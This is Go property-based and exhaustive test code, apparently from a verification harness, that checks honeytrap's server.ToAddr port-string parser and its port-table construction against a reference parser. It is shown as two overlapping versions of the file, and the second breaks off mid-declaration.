// Infra collects harness trouble met inside a rapid property. A property must not end
// with Fatalf for it (the rapid wrapper would report a violation without a case): it
// records the error, returns, and the test function fails with it after the rapid run.
type Infra struct {
	mu  sync.Mutex
	err error
}

func (b *Infra) Set(err error) {
	b.mu.Lock()
	if b.err == nil {
		b.err = err
	}
	b.mu.Unlock()
}

func (b *Infra) Err() error {
	b.mu.Lock()
	defer b.mu.Unlock()
	return b.err
}
