package c19

import (
	"fmt"
	"net"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/server"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

const prop = "C19"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// ---------------------------------------------------------------- reference parser (from the statement)

type refAddr struct {
	Proto string
	IP    string // "" = wildcard
	Port  int
}

func (a refAddr) String() string { return fmt.Sprintf("%s/%s:%d", a.Proto, a.IP, a.Port) }

// refParse: protocol/port or protocol/host:port, protocol tcp|udp, port 0..65535 in
// plain decimal. ok=false for everything else.
func refParse(s string) (refAddr, bool) {
	i := strings.IndexByte(s, '/')
	if i < 0 || strings.Count(s, "/") != 1 {
		return refAddr{}, false
	}
	proto, rest := s[:i], s[i+1:]
	if proto != "tcp" && proto != "udp" {
		return refAddr{}, false
	}
	host, port := "", rest
	if j := strings.LastIndexByte(rest, ':'); j >= 0 {
		host, port = rest[:j], rest[j+1:]
		if strings.HasPrefix(host, "[") && strings.HasSuffix(host, "]") {
			host = host[1 : len(host)-1]
		} else if strings.Contains(host, ":") {
			return refAddr{}, false
		}
	}
	if port == "" {
		return refAddr{}, false
	}
	for _, c := range port {
		if c < '0' || c > '9' {
			return refAddr{}, false
		}
	}
	n, err := strconv.Atoi(port)
	if err != nil || n > 65535 {
		return refAddr{}, false
	}
	if host != "" {
		ip := net.ParseIP(host)
		if ip == nil {
			return refAddr{}, false
		}
		host = ip.String()
	}
	return refAddr{proto, host, n}, true
}

func describe(a net.Addr) (refAddr, bool) {
	switch x := a.(type) {
	case *net.TCPAddr:
		ip := ""
		if x.IP != nil {
			ip = x.IP.String()
		}
		return refAddr{"tcp", ip, x.Port}, true
	case *net.UDPAddr:
		ip := ""
		if x.IP != nil {
			ip = x.IP.String()
		}
		return refAddr{"udp", ip, x.Port}, true
	}
	return refAddr{}, false
}

type parseCase struct {
	S string `json:"s"`
}

func checkParse(s string) error {
	want, ok := refParse(s)
	addr, proto, port, err := server.ToAddr(s)
	if !ok {
		if err == nil && addr != nil {
			return fmt.Errorf("ToAddr(%q) accepted a malformed entry: %v", s, addr)
		}
		return nil
	}
	if err != nil || addr == nil {
		return fmt.Errorf("ToAddr(%q) rejected a well-formed entry: %v", s, err)
	}
	got, ok2 := describe(addr)
	if !ok2 || got != want {
		return fmt.Errorf("ToAddr(%q) = %v (%T), want %v", s, got, addr, want)
	}
	if proto != want.Proto || port != want.Port {
		return fmt.Errorf("ToAddr(%q) proto/port = %s/%d, want %s/%d", s, proto, port, want.Proto, want.Port)
	}
	return nil
}

var hostForms = []string{"", ":", "127.0.0.1:", "192.0.2.44:", "[::1]:", "[2001:db8::5]:"}

var malformed = []string{"", "tcp", "80", "tcp:80", "tcp/", "/80", "tcp/65536", "udp/65536", "tcp/70000", "tcp/-1", "udp/-53", "tcp/abc", "tcp/8o", "icmp/80", "TCP/80", "tcp4/80", "udp6/53", "sctp/9", "80/tcp", "tcp/80/x", "tcp//80", "tcp/127.0.0.1", "tcp/127.0.0.1:", "tcp/[::1]", "tcp/[::1]:", "tcp/1.2.3.4:65536", "udp/[::1]:99999", "tcp/:", "tcp/99999999999999999999", " tcp/80", "tcp /80"}

func TestToAddrExhaustive(t *testing.T) {
	r := vlib.Open(prop)
	var pc parseCase
	if vlib.ReplayCase("TestToAddrExhaustive", &pc) {
		if err := checkParse(pc.S); err != nil {
			r.Violation(t, "TestToAddrExhaustive", pc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	r.Rule("ToAddr: all 65,536 ports x {tcp,udp} x host forms {none, ':', v4, v6 bracketed} plus malformed strings (missing slash, unknown protocol, port 65536, negative, empty, host without port); oracle = reference parser written from the statement; distinct by construction")
	var n int64
	for _, proto := range []string{"tcp", "udp"} {
		for hi, h := range hostForms {
			step := 1
			if !r.Thorough() && hi >= 2 {
				step = 17
			}
			for p := 0; p <= 65535; p += step {
				s := fmt.Sprintf("%s/%s%d", proto, h, p)
				n++
				if err := checkParse(s); err != nil {
					r.Violation(t, "TestToAddrExhaustive", parseCase{s}, err.Error())
					return
				}
			}
		}
		for p := 65536; p < 65536+300; p++ {
			n++
			if err := checkParse(fmt.Sprintf("%s/%d", proto, p)); err != nil {
				r.Violation(t, "TestToAddrExhaustive", parseCase{fmt.Sprintf("%s/%d", proto, p)}, err.Error())
				return
			}
		}
	}
	for _, s := range malformed {
		n++
		if err := checkParse(s); err != nil {
			r.Violation(t, "TestToAddrExhaustive", parseCase{s}, err.Error())
			return
		}
	}
	r.Bulk("toaddr/enumerated", n, n)
	r.Sample("toaddr/enumerated", "udp/[2001:db8::5]:65535")
	r.Exhaustive("all 65,536 port numbers for tcp and udp (plain and ':'-prefixed forms)")
}

// ---------------------------------------------------------------- port table construction through Run

type portEntry struct {
	Port     string   `json:"port"`  // "" = key absent
	Ports    []string `json:"ports"` // nil = key absent
	Services []string `json:"services"`
}

type tableCase struct {
	Defined []string    `json:"defined_services"`
	Entries []portEntry `json:"entries"`
}

var portStrings = []string{"tcp/80", "tcp/80", "udp/80", "tcp/81", "udp/53", "tcp/127.0.0.1:80", "tcp/127.0.0.2:80", "tcp/[::1]:80", "udp/127.0.0.1:53", "tcp/0", "tcp/65535", "udp/65535", "tcp/:81",
	"tcp/65536", "tcp/-1", "tcp", "80", "icmp/80", "", "tcp/", "udp/x", "tcp/127.0.0.1", "tcp/80/1"}

func q(xs []string) string {
	o := make([]string, len(xs))
	for i, x := range xs {
		o[i] = strconv.Quote(x)
	}
	return "[" + strings.Join(o, ", ") + "]"
}

func (c tableCase) toml(id string) string {
	var b strings.Builder
	fmt.Fprintf(&b, "[listener]\ntype=\"verif-mem\"\nid=%q\n\n", id)
	for _, s := range c.Defined {
		fmt.Fprintf(&b, "[service.%s]\ntype=\"verif-plain\"\nid=%q\n\n", s, id+"-"+s)
	}
	for _, e := range c.Entries {
		b.WriteString("[[port]]\n")
		if e.Port != "" {
			fmt.Fprintf(&b, "port=%q\n", e.Port)
		}
		if e.Ports != nil {
			fmt.Fprintf(&b, "ports=%s\n", q(e.Ports))
		}
		fmt.Fprintf(&b, "services=%s\n\n", q(e.Services))
	}
	return b.String()
}

type listened struct {
	Addr     refAddr
	Services []string // valid names, in listed order
}

func compatible(a, b refAddr) bool {
	return a.Proto == b.Proto && a.Port == b.Port && (a.IP == "" || b.IP == "" || a.IP == b.IP)
}

// model builds the expected AddAddress sequence.
func model(c tableCase) []listened {
	defined := map[string]bool{}
	for _, s := range c.Defined {
		defined[s] = true
	}
	var out []listened
	for _, e := range c.Entries {
		var strs []string
		strs = append(strs, e.Ports...)
		if e.Port != "" {
			strs = append(strs, e.Port)
		}
		for _, s := range strs {
			a, ok := refParse(s)
			if !ok {
				continue
			}
			var svcs []string
			for _, n := range e.Services {
				if defined[n] {
					svcs = append(svcs, n)
				}
			}
			if len(svcs) == 0 {
				continue
			}
			dup := false
			for _, l := range out {
				if compatible(l.Addr, a) {
					dup = true
				}
			}
			if dup {
				continue
			}
			out = append(out, listened{a, svcs})
		}
	}
	return out
}

func toNet(a refAddr, fallbackIP string) net.Addr {
	ip := net.ParseIP(a.IP)
	if a.IP == "" {
		ip = net.ParseIP(fallbackIP)
	}
	if a.Proto == "tcp" {
		return &net.TCPAddr{IP: ip, Port: a.Port}
	}
	return &net.UDPAddr{IP: ip, Port: a.Port}
}

func checkTable(c tableCase) error {
	id := lab.NextID()
	srv, err := lab.Start(id, c.toml(id), false)
	if err != nil {
		return fmt.Errorf("infra: %v", err)
	}
	defer srv.Stop()
	ids := []string{id}
	for _, s := range c.Defined {
		ids = append(ids, id+"-"+s)
	}
	defer lab.Forget(ids...)
	want := model(c)
	var got []refAddr
	for _, a := range srv.L.Addresses() {
		d, ok := describe(a)
		if !ok {
			return fmt.Errorf("listener was given an address of type %T", a)
		}
		got = append(got, d)
	}
	var wantA []refAddr
	for _, l := range want {
		wantA = append(wantA, l.Addr)
	}
	if fmt.Sprint(got) != fmt.Sprint(wantA) {
		return fmt.Errorf("listener asked to listen on %v, reference model says %v", got, wantA)
	}
	// probes: every listened entry, plus addresses that must reach nobody
	type probe struct {
		addr    refAddr
		allowed []string
		conn    *lab.Conn
		dg      *lab.Datagram
		marker  string
	}
	var probes []probe
	for i, l := range want {
		probes = append(probes, probe{addr: l.Addr, allowed: l.Services, marker: fmt.Sprintf("probe-%d-%s", i, id)})
	}
	// unlistened: same ports on the other protocol, neighbouring port, other IP for specific-address entries
	cands := []refAddr{{"tcp", "", 80}, {"udp", "", 80}, {"tcp", "", 81}, {"udp", "", 53}, {"tcp", "", 82}, {"tcp", "127.0.0.3", 80}, {"udp", "127.0.0.3", 53}, {"tcp", "", 65535}, {"udp", "", 65535}, {"tcp", "", 0}}
	for i, a := range cands {
		hit := false
		probeAddr := a
		if probeAddr.IP == "" {
			probeAddr.IP = "198.51.100.9"
		}
		for _, l := range want {
			if compatible(l.Addr, probeAddr) {
				hit = true
			}
		}
		if !hit {
			probes = append(probes, probe{addr: a, allowed: nil, marker: fmt.Sprintf("stray-%d-%s", i, id)})
		}
	}
	for i := range probes {
		p := &probes[i]
		local := toNet(p.addr, "198.51.100.9")
		if p.addr.Proto == "tcp" {
			p.conn = srv.L.DialTCP(local.(*net.TCPAddr), &net.TCPAddr{IP: net.IPv4(203, 0, 113, byte(i+1)), Port: 40000 + i})
			p.conn.Send([]byte(p.marker))
			p.conn.CloseWrite()
		} else {
			p.dg = srv.L.SendUDP(local.(*net.UDPAddr), &net.UDPAddr{IP: net.IPv4(203, 0, 113, byte(i+1)), Port: 40000 + i}, []byte(p.marker))
		}
	}
	for i := range probes {
		p := &probes[i]
		if p.conn != nil && !p.conn.WaitClosed(45*time.Second) {
			return fmt.Errorf("probe to %v was not closed by the server within 45s", p.addr)
		}
	}
	// udp probes have no close signal: wait until every expected stub finished
	deadline := time.Now().Add(5 * time.Second)
	for {
		seen := map[string]string{}
		for _, s := range c.Defined {
			st := lab.GetStub(id + "-" + s)
			if st == nil {
				return fmt.Errorf("infra: stub %s missing", s)
			}
			for _, inv := range st.Invocations() {
				if inv.Done {
					if prev, dup := seen[string(inv.Data)]; dup {
						return fmt.Errorf("probe %q reached two services: %s and %s", inv.Data, prev, s)
					}
					seen[string(inv.Data)] = s
				}
			}
		}
		missing := ""
		for _, p := range probes {
			svc, ok := seen[p.marker]
			if p.allowed == nil {
				if ok {
					return fmt.Errorf("connection to %v, which is not a listened entry, reached service %s", p.addr, svc)
				}
				continue
			}
			if !ok {
				missing = p.addr.String()
				continue
			}
			found := false
			for _, a := range p.allowed {
				if a == svc {
					found = true
				}
			}
			if !found {
				return fmt.Errorf("connection to %v reached service %s, entry lists %v", p.addr, svc, p.allowed)
			}
		}
		if missing == "" {
			break
		}
		if time.Now().After(deadline) {
			return fmt.Errorf("probe to listened entry %s reached no service", missing)
		}
		time.Sleep(2 * time.Millisecond)
	}
	return nil
}

func genTable(t *rapid.T) tableCase {
	c := tableCase{Defined: rapid.SliceOfNDistinct(rapid.SampledFrom([]string{"s1", "s2", "s3"}), 0, 3, rapid.ID[string]).Draw(t, "defined")}
	n := rapid.IntRange(1, 4).Draw(t, "entries")
	names := []string{"s1", "s2", "s3", "nosuch", "s1"}
	for i := 0; i < n; i++ {
		var e portEntry
		switch rapid.IntRange(0, 3).Draw(t, "form") {
		case 0:
			e.Port = rapid.SampledFrom(portStrings).Draw(t, "port")
		case 1:
			e.Ports = rapid.SliceOfN(rapid.SampledFrom(portStrings), 0, 3).Draw(t, "ports")
			if e.Ports == nil {
				e.Ports = []string{}
			}
		case 2:
			e.Port = rapid.SampledFrom(portStrings).Draw(t, "port")
			e.Ports = rapid.SliceOfN(rapid.SampledFrom(portStrings), 1, 2).Draw(t, "ports")
		default:
		}
		e.Services = rapid.SliceOfN(rapid.SampledFrom(names), 0, 3).Draw(t, "services")
		if e.Services == nil {
			e.Services = []string{}
		}
		c.Entries = append(c.Entries, e)
	}
	return c
}

func nontrivial(c tableCase) bool {
	// >=2 entries that collide, or an entry mixing valid and unknown services
	defined := map[string]bool{}
	for _, s := range c.Defined {
		defined[s] = true
	}
	var seen []refAddr
	for _, e := range c.Entries {
		v, u := false, false
		for _, s := range e.Services {
			if defined[s] {
				v = true
			} else {
				u = true
			}
		}
		if v && u {
			return true
		}
		strs := append(append([]string{}, e.Ports...), e.Port)
		for _, s := range strs {
			if a, ok := refParse(s); ok {
				for _, p := range seen {
					if compatible(p, a) {
						return true
					}
				}
				seen = append(seen, a)
			}
		}
	}
	return false
}

func TestPortTable(t *testing.T) {
	r := vlib.Open(prop)
	var tc tableCase
	if vlib.ReplayCase("TestPortTable", &tc) {
		if err := checkTable(tc); err != nil {
			r.Violation(t, "TestPortTable", tc, err.Error())
		}
		return
	}
	r.Rule("configurations of 1..4 port entries using port and/or ports with well-formed and malformed strings, service lists naming defined, undefined and duplicate stub services; real Run() with a recording listener; oracle = reference table builder (set and order of AddAddress calls) + probe connections (tcp and udp) to listened and unlistened addresses; non-trivial = colliding entries or an entry mixing valid and unknown services")
	r.Rapid(t, "TestPortTable", r.Pick(6000, 60000), func(rt *rapid.T) {
		c := genTable(rt)
		fp := ""
		if nontrivial(c) {
			fp = vlib.JSON(c)
		}
		r.Case(fmt.Sprintf("table/entries=%d", len(c.Entries)), fp, func() interface{} { return c })
		if err := checkTable(c); err != nil {
			if strings.HasPrefix(err.Error(), "infra:") {
				rt.Fatalf("%v", err)
			}
			r.Fail(rt, "TestPortTable", c, "%v", err)
		}
	})
}
