package c19

import (
	"fmt"
	"net"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/honeytrap/honeytrap/server"
	"pgregory.net/rapid"

	"verif/lab"
	"verif/vlib"
)

const prop = "C19"

func TestMain(m *testing.M) { vlib.Main(m, prop) }

// ---------------------------------------------------------------- reference parser (from the statement)

type refAddr struct {
	Proto string
	IP    string // "" = wildcard
	Port  int
}

func (a refAddr) String() string { return fmt.Sprintf("%s/%s:%d", a.Proto, a.IP, a.Port) }

// verdicts of the reference for one port string
const (
	vMalformed = iota // does not parse as protocol/port or protocol/host:port: must be rejected
	vExact            // well-formed with no host or an IP-literal host: exactly this address
	vSoft             // host is not an IP literal but a lenient / resolving parser could give it a meaning (host
	// name, inet_aton-style numeric form, surrounding white space, non-ASCII name): the statement leaves the
	// resolution to the environment, so the entry may be rejected or become ONE CONCRETE address with
	// this protocol and port - never the wildcard address, which nobody configured
	vZoned // bracketed IPv6 literal with a %zone: rejected, or exactly that literal's address
	vSkip  // not classified by the statement: nothing is asserted
)

func isV6Literal(h string) bool { return strings.Contains(h, ":") && net.ParseIP(h) != nil }

// classifyHost: the host part after removing one pair of brackets. Returns the verdict, the
// canonical IP for literal / zoned hosts and a class name for labels and messages.
func classifyHost(host string) (int, string, string) {
	if host == "" {
		return vExact, "", "none"
	}
	if ip := net.ParseIP(host); ip != nil {
		return vExact, ip.String(), "literal"
	}
	if i := strings.IndexByte(host, '%'); i >= 0 {
		if lit, zone := host[:i], host[i+1:]; zone != "" && isV6Literal(lit) {
			if net.ParseIP(lit).IsUnspecified() {
				return vSkip, "", "unspecified-zone" // like 0.0.0.0 / ::, left to the implementation
			}
			return vZoned, net.ParseIP(lit).String(), "v6-zone"
		}
		return vMalformed, "", "bad-zone" // IPv4 or name with a zone, empty zone
	}
	if strings.Contains(host, ":") {
		return vMalformed, "", "bad-v6" // a colon cannot be part of a host name
	}
	numeric, name := true, true
	for _, c := range host {
		switch {
		case c >= '0' && c <= '9' || c == '.':
		case c >= 'a' && c <= 'z' || c >= 'A' && c <= 'Z' || c == '-' || c == '_':
			numeric = false
		case c <= ' ' || c >= 0x7f:
			return vSoft, "", "odd-name" // white space a lenient parser might trim, control, non-ASCII (IDN)
		default:
			numeric, name = false, false
		}
	}
	if strings.Trim(host, "0.xX") == "" {
		return vSkip, "", "zero-number" // 0, 0.0, 0x0.0: the unspecified address for an inet_aton-style parser
	}
	switch {
	case numeric:
		return vSoft, "", "bad-v4" // 300.1.1.1, 1.2.3, 010.0.0.1, 1.2.3.4.5, 2130706433 ...
	case name:
		return vSoft, "", "name"
	}
	return vMalformed, "", "bad-host" // ASCII punctuation that neither a literal nor a name can contain
}

// refClassify: protocol/port or protocol/host:port, protocol tcp|udp, port 0..65535 in plain
// decimal; see the verdict constants for the host part. class names the host class when the
// rest of the entry is well-formed, "" otherwise.
func refClassify(s string) (refAddr, int, string) {
	i := strings.IndexByte(s, '/')
	if i < 0 || strings.Count(s, "/") != 1 {
		return refAddr{}, vMalformed, ""
	}
	proto, rest := s[:i], s[i+1:]
	if proto != "tcp" && proto != "udp" {
		return refAddr{}, vMalformed, ""
	}
	host, port := "", rest
	if j := strings.LastIndexByte(rest, ':'); j >= 0 {
		host, port = rest[:j], rest[j+1:]
		if strings.HasPrefix(host, "[") && strings.HasSuffix(host, "]") {
			host = host[1 : len(host)-1]
		} else if strings.Contains(host, ":") {
			return refAddr{}, vMalformed, ""
		}
	}
	if port == "" {
		return refAddr{}, vMalformed, ""
	}
	for _, c := range port {
		if c < '0' || c > '9' {
			return refAddr{}, vMalformed, ""
		}
	}
	n, err := strconv.Atoi(port)
	if err != nil || n > 65535 {
		return refAddr{}, vMalformed, ""
	}
	v, ip, class := classifyHost(host)
	if v == vMalformed {
		return refAddr{}, vMalformed, class
	}
	return refAddr{proto, ip, n}, v, class
}

// refParse: the entries the statement classifies as well-formed with a fixed meaning.
func refParse(s string) (refAddr, bool) {
	a, v, _ := refClassify(s)
	return a, v == vExact
}

func describe(a net.Addr) (refAddr, bool) {
	switch x := a.(type) {
	case *net.TCPAddr:
		ip := ""
		if x.IP != nil {
			ip = x.IP.String()
		}
		return refAddr{"tcp", ip, x.Port}, true
	case *net.UDPAddr:
		ip := ""
		if x.IP != nil {
			ip = x.IP.String()
		}
		return refAddr{"udp", ip, x.Port}, true
	}
	return refAddr{}, false
}

type parseCase struct {
	S string `json:"s"`
}

func wildcard(ip string) bool {
	return ip == "" || net.ParseIP(ip) == nil || net.ParseIP(ip).IsUnspecified()
}

func checkParse(s string) error {
	want, v, class := refClassify(s)
	addr, proto, port, err := server.ToAddr(s)
	switch v {
	case vSkip:
		return nil
	case vMalformed:
		if err == nil && addr != nil {
			return fmt.Errorf("ToAddr(%q) accepted a malformed entry: %v", s, addr)
		}
		return nil
	case vSoft, vZoned:
		if err != nil || addr == nil {
			return nil // rejected: allowed
		}
		got, ok := describe(addr)
		if !ok {
			return fmt.Errorf("ToAddr(%q) = %v (%T)", s, addr, addr)
		}
		if wildcard(got.IP) {
			return fmt.Errorf("ToAddr(%q) = %v: the host part (%s, not an IP literal) was dropped and the entry became the wildcard address nobody configured", s, got, class)
		}
		if got.Proto != want.Proto || got.Port != want.Port || proto != want.Proto || port != want.Port {
			return fmt.Errorf("ToAddr(%q) = %v, %s/%d, want protocol/port %s/%d", s, got, proto, port, want.Proto, want.Port)
		}
		if v == vZoned && got.IP != want.IP {
			return fmt.Errorf("ToAddr(%q) = %v, want address %s (or a rejection)", s, got, want.IP)
		}
		return nil
	}
	if err != nil || addr == nil {
		return fmt.Errorf("ToAddr(%q) rejected a well-formed entry: %v", s, err)
	}
	got, ok2 := describe(addr)
	if !ok2 || got != want {
		return fmt.Errorf("ToAddr(%q) = %v (%T), want %v", s, got, addr, want)
	}
	if proto != want.Proto || port != want.Port {
		return fmt.Errorf("ToAddr(%q) proto/port = %s/%d, want %s/%d", s, proto, port, want.Proto, want.Port)
	}
	return nil
}

var hostForms = []string{"", ":", "127.0.0.1:", "192.0.2.44:", "[::1]:", "[2001:db8::5]:"}

var malformed = []string{"", "tcp", "80", "tcp:80", "tcp/", "/80", "tcp/65536", "udp/65536", "tcp/70000", "tcp/-1", "udp/-53", "tcp/abc", "tcp/8o", "icmp/80", "TCP/80", "tcp4/80", "udp6/53", "sctp/9", "80/tcp", "tcp/80/x", "tcp//80", "tcp/127.0.0.1", "tcp/127.0.0.1:", "tcp/[::1]", "tcp/[::1]:", "tcp/1.2.3.4:65536", "udp/[::1]:99999", "tcp/:", "tcp/99999999999999999999", " tcp/80", "tcp /80"}

func TestToAddrExhaustive(t *testing.T) {
	r := vlib.Open(prop)
	var pc parseCase
	if vlib.ReplayCase("TestToAddrExhaustive", &pc) {
		if err := checkParse(pc.S); err != nil {
			r.Violation(t, "TestToAddrExhaustive", pc, err.Error())
		}
		return
	}
	if vlib.Replaying() {
		return
	}
	if i, _ := r.Shard(); i != 0 {
		return
	}
	r.Rule("ToAddr: all 65,536 ports x {tcp,udp} x host forms {none, ':', v4, v6 bracketed} plus malformed strings (missing slash, unknown protocol, port 65536, negative, empty, host without port); oracle = reference parser written from the statement; distinct by construction")
	var n int64
	for _, proto := range []string{"tcp", "udp"} {
		for hi, h := range hostForms {
			step := 1
			if !r.Thorough() && hi >= 2 {
				step = 17
			}
			for p := 0; p <= 65535; p += step {
				s := fmt.Sprintf("%s/%s%d", proto, h, p)
				n++
				if err := checkParse(s); err != nil {
					r.Violation(t, "TestToAddrExhaustive", parseCase{s}, err.Error())
					return
				}
			}
		}
		for p := 65536; p < 65536+300; p++ {
			n++
			if err := checkParse(fmt.Sprintf("%s/%d", proto, p)); err != nil {
				r.Violation(t, "TestToAddrExhaustive", parseCase{fmt.Sprintf("%s/%d", proto, p)}, err.Error())
				return
			}
		}
	}
	for _, s := range malformed {
		n++
		if err := checkParse(s); err != nil {
			r.Violation(t, "TestToAddrExhaustive", parseCase{s}, err.Error())
			return
		}
	}
	r.Bulk("toaddr/enumerated", n, n)
	r.Sample("toaddr/enumerated", "udp/[2001:db8::5]:65535")
	r.Exhaustive("all 65,536 port numbers for tcp and udp (plain and ':'-prefixed forms)")
}

// ---------------------------------------------------------------- host parts that are not IP literals

var (
	goodOctets = []int{0, 1, 7, 9, 10, 99, 100, 127, 192, 199, 200, 249, 250, 254, 255}
	badOctets  = []string{"256", "257", "260", "299", "300", "999", "1000", "65536", "4294967296", "00", "01", "08", "010", "0377", "0x7f", "0x0", "", "-1", "+1", "1e1", "a", " 1"}
	v6Bases    = []string{"::1", "fe80::1", "fe80::a:b", "2001:db8::5", "2001:db8:0:1:2:3:4:5", "::ffff:192.0.2.1", "ff02::1"}
	zones      = []string{"lo", "eth0", "1", "0", "nosuchif9", "", "lo%lo", "a b"}
	hostNames  = []string{"localhost", "LOCALHOST", "Localhost", "localhost.", "h.invalid", "a-b.invalid", "a_b.invalid", "-x.invalid", "x-.invalid", "invalid", "1.2.3.4.invalid", "0x7f.invalid", "xn--bcher-kva.invalid", "local host", " localhost", "localhost ", "\tlocalhost"}
	punct      = []string{"!", ",", ";", "*", "?", "@", "#", "$", "&", "(", ")", "=", "~", "^", "|", "<", ">", "{", "}", "'", "`", "+", "%", "%lo", "\"", "\\", "]", "["}
)

func genV4(t *rapid.T) []string {
	o := make([]string, 4)
	o[0] = strconv.Itoa(rapid.IntRange(1, 223).Draw(t, "o0"))
	for i := 1; i < 4; i++ {
		if rapid.Bool().Draw(t, "edge") {
			o[i] = strconv.Itoa(rapid.SampledFrom(goodOctets).Draw(t, "o"))
		} else {
			o[i] = strconv.Itoa(rapid.IntRange(0, 255).Draw(t, "o"))
		}
	}
	return o
}

// genHost: the host part of an entry as written (brackets included). Derived from valid IPv4 /
// IPv6 literals by the mutations that make a literal invalid (octet just outside 0..255, octet
// count, leading zeros, radix prefixes, empty octets, 32-bit number, zone, group count / length,
// double "::", stray characters, bracket mistakes) plus host names and unmutated controls.
// dns=false keeps to names whose lookup never needs a name server (hosts file, .invalid).
func genHost(t *rapid.T, dns bool) string {
	switch rapid.IntRange(0, 13).Draw(t, "hostkind") {
	case 0: // control: valid IPv4
		return strings.Join(genV4(t), ".")
	case 1: // one octet replaced
		o := genV4(t)
		o[rapid.IntRange(0, 3).Draw(t, "pos")] = rapid.SampledFrom(badOctets).Draw(t, "bad")
		return strings.Join(o, ".")
	case 2: // too few octets
		return strings.Join(genV4(t)[:rapid.IntRange(1, 3).Draw(t, "n")], ".")
	case 3: // too many octets
		o := genV4(t)
		for i := rapid.IntRange(1, 2).Draw(t, "n"); i > 0; i-- {
			o = append(o, strconv.Itoa(rapid.SampledFrom(goodOctets).Draw(t, "o")))
		}
		return strings.Join(o, ".")
	case 4: // leading / trailing / doubled dot
		h := strings.Join(genV4(t), ".")
		switch rapid.IntRange(0, 2).Draw(t, "dot") {
		case 0:
			return h + "."
		case 1:
			return "." + h
		}
		return strings.Replace(h, ".", "..", 1)
	case 5: // the address as one number (inet_aton style), around 2^32
		switch rapid.IntRange(0, 2).Draw(t, "num") {
		case 0:
			return strconv.FormatUint(uint64(rapid.Uint32Min(1<<24).Draw(t, "u32")), 10)
		case 1:
			return rapid.SampledFrom([]string{"4294967295", "4294967296", "2130706433", "0x7f000001", "017700000001"}).Draw(t, "numlit")
		}
		o := genV4(t)
		return o[0] + "." + strconv.Itoa(rapid.IntRange(0, 1<<24-1).Draw(t, "tail"))
	case 6: // stray character in or around a literal or name
		h := strings.Join(genV4(t), ".")
		if rapid.Bool().Draw(t, "onname") {
			h = "localhost"
		}
		c := rapid.SampledFrom(append([]string{"x", "-", "_", " "}, punct...)).Draw(t, "char")
		i := rapid.SampledFrom([]int{0, len(h) / 2, len(h)}).Draw(t, "at")
		return h[:i] + c + h[i:]
	case 7: // control: valid bracketed IPv6
		return "[" + rapid.SampledFrom(v6Bases).Draw(t, "v6") + "]"
	case 8: // zone
		h := rapid.SampledFrom(v6Bases).Draw(t, "v6") + "%" + rapid.SampledFrom(zones).Draw(t, "zone")
		if rapid.IntRange(0, 5).Draw(t, "nobracket") == 0 {
			return h
		}
		return "[" + h + "]"
	case 9: // invalid IPv6 in brackets
		b := rapid.SampledFrom(v6Bases).Draw(t, "v6")
		switch rapid.IntRange(0, 6).Draw(t, "v6bad") {
		case 0:
			b += "::1"
		case 1:
			b = strings.Replace(b, "1", "12345", 1)
		case 2:
			b = "1:2:3:4:5:6:7:8:" + strconv.Itoa(rapid.IntRange(0, 9).Draw(t, "g9"))
		case 3:
			b += "g"
		case 4:
			b += ":"
		case 5:
			b = ":" + strings.TrimPrefix(b, ":") + ":"
		default:
			b = "1:2:3:4:5:6:7"
		}
		return "[" + b + "]"
	case 10: // bracket mistakes
		b := rapid.SampledFrom(append([]string{"192.0.2.1x", "localhost"}, v6Bases...)).Draw(t, "inner")
		return rapid.SampledFrom([]string{"[" + b, b + "]", "[[" + b + "]]", "[" + b + "]x", "x[" + b + "]", b}).Draw(t, "brk")
	case 11: // a short name that is not in the hosts file
		if dns {
			return rapid.StringMatching(`[a-z][a-z0-9-]{0,8}(\.[a-z]{2,5})?`).Draw(t, "name")
		}
		return rapid.StringMatching(`[a-z][a-z0-9-]{0,8}\.invalid`).Draw(t, "name")
	case 12:
		return strings.Repeat("a", rapid.SampledFrom([]int{1, 62, 63, 64, 65}).Draw(t, "label")) + ".invalid"
	}
	h := rapid.SampledFrom(hostNames).Draw(t, "name")
	if rapid.IntRange(0, 7).Draw(t, "brackets") == 0 {
		h = "[" + h + "]"
	}
	return h
}

func unclassifiedHost(s string) bool {
	// 0.0.0.0 / :: hosts and non-canonical decimal ports are left to the implementation (prop.json level_note)
	a, v, _ := refClassify(s)
	return v == vSkip || v == vExact && a.IP != "" && net.ParseIP(a.IP).IsUnspecified()
}

// genHostEntry: protocol/host:port with a generated host; ports (as written) from the given set.
func genHostEntry(t *rapid.T, ports []string, dns bool) string {
	proto := "tcp"
	if rapid.Bool().Draw(t, "udp") {
		proto = "udp"
	}
	return proto + "/" + genHost(t, dns) + ":" + rapid.SampledFrom(ports).Draw(t, "portnum")
}

func TestToAddrHosts(t *testing.T) {
	r := vlib.Open(prop)
	var pc parseCase
	if vlib.ReplayCase("TestToAddrHosts", &pc) {
		if err := checkParse(pc.S); err != nil {
			r.Violation(t, "TestToAddrHosts", pc, err.Error())
		}
		return
	}
	r.Rule("ToAddr on protocol/host:port with generated host parts: valid IPv4/IPv6 literals and their invalid neighbours (octet outside 0..255, wrong octet/group count, leading zeros, radix prefixes, empty octets, 32-bit number form, zones, double '::', stray characters, bracket mistakes) and host names; ports at the range boundaries; oracle = reference classifier: literal -> exactly that address, not a host at all -> rejected, name / lenient numeric form -> rejected or ONE concrete address with that protocol and port, never the wildcard; non-trivial = host part present and not an IP literal")
	ports := []string{"0", "1", "53", "80", "8023", "65534", "65535", "0", "1", "53", "80", "8023", "65534", "65535", "80", "65535", "65536", "70000", "-1", "", "x"}
	r.Rapid(t, "TestToAddrHosts", r.Pick(8000, 80000), func(rt *rapid.T) {
		s := genHostEntry(rt, ports, true)
		if rapid.IntRange(0, 19).Draw(rt, "badproto") == 0 {
			s = rapid.SampledFrom([]string{"icmp", "TCP", "tcp4", "", "udp6"}).Draw(rt, "proto") + s[3:]
		}
		if unclassifiedHost(s) {
			rt.Skip("unspecified address as host")
		}
		_, _, class := refClassify(s)
		label, fp := "hosts/malformed-elsewhere", ""
		if class != "" {
			label = "hosts/" + class
			if class != "literal" && class != "none" {
				fp = s
			}
		}
		r.Case(label, fp, func() interface{} { return parseCase{s} })
		if err := checkParse(s); err != nil {
			r.Fail(rt, "TestToAddrHosts", parseCase{s}, "%v", err)
		}
	})
}

// ---------------------------------------------------------------- port table construction through Run

type portEntry struct {
